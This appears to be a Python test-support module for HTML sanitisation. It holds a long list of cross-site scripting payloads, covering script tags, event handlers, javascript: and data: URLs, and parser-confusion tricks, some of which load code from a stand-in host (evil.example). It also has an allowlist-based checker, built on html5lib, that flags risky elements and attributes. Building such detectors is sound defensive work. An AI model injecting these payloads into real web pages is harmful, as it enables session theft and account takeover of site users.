"""Ways to smuggle a script into a page, and a judge of HTML that works as browsers do."""

import html5lib

RUN = "alert(1)"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>/*</p>*/alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script type=module>import('//evil.example')</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'/>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x' onerror=&#97;lert(1)>",
    "<img src=javascript:alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img srcset=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<textarea></p><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<button formaction=javascript:alert(1) type=submit>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1)>x</div>",
    "<div onmouseenter='alert(1)' style='width:9999px'>x</div>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style=\"-moz-binding:url('//evil.example/x.xml#x')\">x</div>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<base href='javascript:alert(1)//'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example' onclick=alert(1)>x</a>",
    "<a href='https://a.example' target=_blank onmouseover=alert(1)>x</a>",
    "<a linktype='page' id='1' href='javascript:alert(1)'>x</a>",
    "<a linktype='page' id='javascript:alert(1)'>x</a>",
    "<a linktype=\"external\" href=\"javascript:alert(1)\">x</a>",
    "<a href=\"x\" title=\"'><img src=x onerror=alert(1)>\">x</a>",
    "<embed embedtype='image' id='1' alt='x\" onerror=\"alert(1)'/>",
    "<embed embedtype='media' url='javascript:alert(1)'/>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<p><table><img src=x onerror=alert(1)><tr><td>x</table>",
    "<xss contenteditable onfocus=alert(1) tabindex=1>x</xss>",
    "</p></div></article><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "';alert(1)//",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<a href='https://a.example'><svg/onload=alert(1)></a>",
]  # fmt: skip

HARMLESS = {
    "html", "head", "body", "a", "abbr", "bdo", "bdi", "p", "span", "li", "ul", "ol", "blockquote", "q", "cite",
    "h2", "h3", "h4", "em", "i", "b", "strong", "br", "hr", "sub", "sup", "s", "code", "dl", "dt", "dd", "pre",
    "mark", "figure", "figcaption", "img", "aside", "table", "caption", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {
    "href",
    "title",
    "hreflang",
    "dir",
    "lang",
    "src",
    "alt",
    "width",
    "height",
    "id",
    "scope",
    "loading",
}
SCHEMES = ("https://", "http://", "mailto:", "tel:", "/", "#", "x")
FRAMES = ("https://www.youtube-nocookie.com/embed/", "https://player.vimeo.com/video/")


def dangers_in(html, *, frames=False):
    """Return what a browser would find in a piece of HTML that could run: elements, attributes, addresses."""
    found = []
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        is_frame = frames and element.tag == "iframe" and element.get("src", "").startswith(FRAMES)
        if element.tag not in HARMLESS and not is_frame:
            found.append(element.tag)
        for name, value in element.attrib.items():
            if name not in ATTRIBUTES and not is_frame:
                found.append(f"{element.tag} {name}")
            if name in {"href", "src"} and not value.lower().startswith(SCHEMES):
                found.append(f"{element.tag} {name}={value}")
    return found
